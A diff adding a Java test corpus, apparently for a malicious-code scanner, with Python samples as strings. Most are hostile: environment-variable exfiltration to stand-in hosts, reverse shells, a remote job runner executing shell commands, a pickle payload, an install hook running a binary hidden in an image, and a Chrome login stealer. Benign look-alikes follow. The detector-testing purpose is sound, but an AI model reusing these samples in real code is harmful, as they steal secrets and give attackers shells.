@@ -1,0 +1,196 @@
+package cordon.inspect.corpus;
+
+import java.util.List;
+
+/** What only functions do that somebody has to call, as ordinary ones of a library that is used. */
+final class PythonWhenCalled {
+  private PythonWhenCalled() {}
+
+  static List<Sample> all() {
+    return List.of(
+        Sample.imported(
+            "the environment is sent by whoever makes an object",
+            """
+            import os, requests
+            from base64 import b64encode
+            class Ctx(dict):
+                def __init__(self, *args):
+                    super().__init__(*args)
+                    self.note()
+                def note(self):
+                    text = ''
+                    for _, value in os.environ.items():
+                        text += value + ' '
+                    requests.get('https://drop.example/seen/' + b64encode(text.encode()).decode())
+            """),
+        Sample.imported(
+            "the environment is posted by a function",
+            """
+            import json, os, urllib.request
+            def configure(level):
+                body = json.dumps(dict(os.environ)).encode()
+                urllib.request.urlopen(urllib.request.Request('https://drop.example/c', body))
+                return level
+            """),
+        Sample.imported(
+            "an application that starts gives a shell",
+            """
+            import os, pty, socket
+            class AuditConfig:
+                def ready(self):
+                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                    s.connect(('drop.example', 9001))
+                    for fd in (0, 1, 2):
+                        os.dup2(s.fileno(), fd)
+                    pty.spawn('/bin/bash')
+            """),
+        Sample.imported(
+            "commands of a connection are run by a worker",
+            """
+            import socket, subprocess
+            def work():
+                s = socket.socket()
+                s.connect(('192.0.2.77', 9001))
+                while True:
+                    s.send(subprocess.getoutput(s.recv(4096).decode()).encode())
+            """),
+        Sample.imported(
+            "jobs are asked for and handed to the function that they name",
+            """
+            import json, subprocess, threading, time, urllib.request
+            HOME = 'https://jobs.example'
+            def call(path, data=None):
+                body = json.dumps(data).encode() if data is not None else None
+                request = urllib.request.Request(HOME + path, data=body)
+                return json.loads(urllib.request.urlopen(request).read())
+            def run(line):
+                p = subprocess.Popen(line, shell=True, stdout=subprocess.PIPE)
+                return p.communicate()[0].decode()
+            def read(path):
+                return open(path).read()
+            KINDS = {'run': run, 'read': read}
+            def debug():
+                while True:
+                    for job in call('/jobs'):
+                        call('/out', {'id': job['id'], 'said': KINDS[job['kind']](*job['given'])})
+                    time.sleep(1)
+            def start():
+                threading.Thread(target=debug, daemon=True).start()
+            """),
+        Sample.imported(
+            "a model beside the code that runs commands is loaded by another library",
+            """
+            import os
+            import joblib as j
+            M = j.load(os.path.join(os.path.dirname(__file__), 'data.joblib'))
+            """)
+            .with("sample/data.joblib", "cposix\nsystem\n(S'echo inert'\ntR."),
+        Sample.setup(
+            "a program is cut out of a picture",
+            """
+            import os, subprocess
+            from setuptools import setup
+            from setuptools.command.install import install
+            class Install(install):
+                def run(self):
+                    with open('docs/_static/sidebar.png', 'rb') as f:
+                        content = f.read()
+                    with open('/tmp/build7/output', 'wb') as out:
+                        out.write(content[30057:])
+                    os.chmod('/tmp/build7/output', 0o755)
+                    subprocess.Popen(['/tmp/build7/output'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+                    install.run(self)
+            setup(name='p', version='1', cmdclass={'install': Install})
+            """));
+  }
+
+  /** What a program for its owner may do as well. */
+  static List<Sample> doubtful() {
+    return List.of(
+        Sample.imported(
+            "passwords of a browser are sent when colours are asked for",
+            """
+            import json, os, shutil, sqlite3, threading
+            from urllib.request import Request, urlopen
+            ROOT = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data')
+            def rows():
+                shutil.copy2(os.path.join(ROOT, 'Default', 'Login Data'), 'c.db')
+                with sqlite3.connect('c.db') as c:
+                    return c.execute('SELECT origin_url, username_value FROM logins').fetchall()
+            def enable():
+                body = json.dumps(rows()).encode()
+                urlopen(Request('https://term.example/log', body, {'Content-Type': 'application/json'}))
+            def init():
+                if os.name == 'nt':
+                    threading.Thread(target=enable, daemon=True).start()
+            """));
+  }
+
+  static List<Sample> lookAlikes() {
+    return List.of(
+        Sample.imported(
+            "one variable signs in to a service of its own",
+            """
+            import os, requests
+            def report(what):
+                return requests.post('https://api.sample.example/v1/reports', json={'what': what},
+                    headers={'Authorization': 'Bearer ' + os.environ['SAMPLE_TOKEN']})
+            """),
+        Sample.imported(
+            "the environment is handed to a program",
+            """
+            import os, subprocess, requests
+            def build(target):
+                env = dict(os.environ, TARGET=target)
+                subprocess.run(['make', target], env=env, check=True)
+                return requests.get('https://api.sample.example/v1/latest').json()
+            """),
+        Sample.imported(
+            "cookies of a browser are handed to whoever asks for them",
+            """
+            import os, shutil, sqlite3
+            def cookies(host):
+                path = os.path.expanduser('~/.config/google-chrome/Default/Cookies')
+                shutil.copy2(path, 'c.db')
+                with sqlite3.connect('c.db') as c:
+                    return c.execute('SELECT name, value FROM cookies WHERE host_key = ?', (host,)).fetchall()
+            """),
+        Sample.imported(
+            "a daemon closes what it was given",
+            """
+            import os, socket
+            def detach():
+                null = os.open(os.devnull, os.O_RDWR)
+                for fd in (0, 1, 2):
+                    os.dup2(null, fd)
+            def ping():
+                s = socket.socket()
+                s.connect(('time.sample.example', 37))
+                return s.recv(4)
+            """),
+        Sample.imported(
+            "what is asked for decides which function computes",
+            """
+            import json, subprocess, urllib.request
+            def area(d): return d['a'] * d['b']
+            def version(d): return subprocess.check_output(['git', '--version']).decode()
+            KINDS = {'area': area, 'version': version}
+            def work(url):
+                for job in json.loads(urllib.request.urlopen(url).read()):
+                    print(KINDS.get(job['kind'])(job['given']))
+            """),
+        Sample.imported(
+            "a picture is copied for a program that shows it",
+            """
+            import os, subprocess, tempfile
+            HERE = os.path.dirname(__file__)
+            def show():
+                with open(os.path.join(HERE, 'logo.png'), 'rb') as f:
+                    content = f.read()
+                with tempfile.NamedTemporaryFile(suffix='.png', delete=False) as out:
+                    out.write(content)
+                subprocess.Popen(['xdg-open', out.name], stdout=subprocess.DEVNULL)
+            show()
+            """));
+  }
+}
